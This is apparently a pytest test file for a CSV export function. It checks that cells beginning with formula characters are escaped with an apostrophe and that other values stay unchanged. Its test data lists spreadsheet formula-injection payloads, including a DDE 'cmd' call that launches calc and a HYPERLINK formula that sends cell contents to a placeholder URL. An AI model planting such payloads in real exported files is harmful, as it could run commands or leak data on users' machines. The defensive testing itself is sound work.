"""CSV files hold nothing that a spreadsheet would run, and otherwise what the table holds."""

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from cxsim.files.csv import csv_text, write_csv

RUN = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://example.com/?"&A1,"more")',
    "=cmd|' /C calc'!A0",
    '-1,"=2',
)
LEFT = ("Shop", "a = b", "50 % off", "-0.5", "+3 %", "1e-3", "-1.5e+3", "'=1", "'", "", "–", "−1")


def cells(text: str) -> list[list[str]]:
    """What a program that knows CSV reads."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("kind", ["str", "object", "category"])
def test_text_that_would_be_run_is_shown_as_text(kind: str) -> None:
    table = pd.DataFrame({"title": pd.Series(RUN, dtype=kind), "n": range(len(RUN))})
    rows = cells(csv_text(table))
    expected = ["'" + text.replace("\r", "\n") for text in RUN]
    assert rows == [["title", "n"], *([text, str(n)] for n, text in enumerate(expected))]


def test_everything_else_stays_as_it_is() -> None:
    table = pd.DataFrame({"text": LEFT, "number": -1.5, "flag": True, "mixed": [-1, *("x",) * 10, None]})
    rows = cells(csv_text(table))
    assert [row[0] for row in rows[1:]] == list(LEFT)
    assert [row[1:3] for row in rows[1:]] == [["-1.5", "True"]] * len(LEFT)
    assert [row[3] for row in rows[1:]] == ["-1", *("x",) * 10, ""]


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
def test_no_text_begins_a_row_of_its_own(end: str) -> None:
    table = pd.DataFrame({"title": [f"Shop{end}=1+1,2", "x"], "n": [1, 2]})
    assert cells(csv_text(table))[1:] == [["Shop\n=1+1,2", "1"], ["x", "2"]]


def test_names_of_columns_are_text_too(tmp_path: Path) -> None:
    table = pd.DataFrame([[1, 2, 3]], columns=["=A1", "b", "b"])
    write_csv(table, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == "'=A1,b,b\n1,2,3\n"
    assert list(table.columns) == ["=A1", "b", "b"]
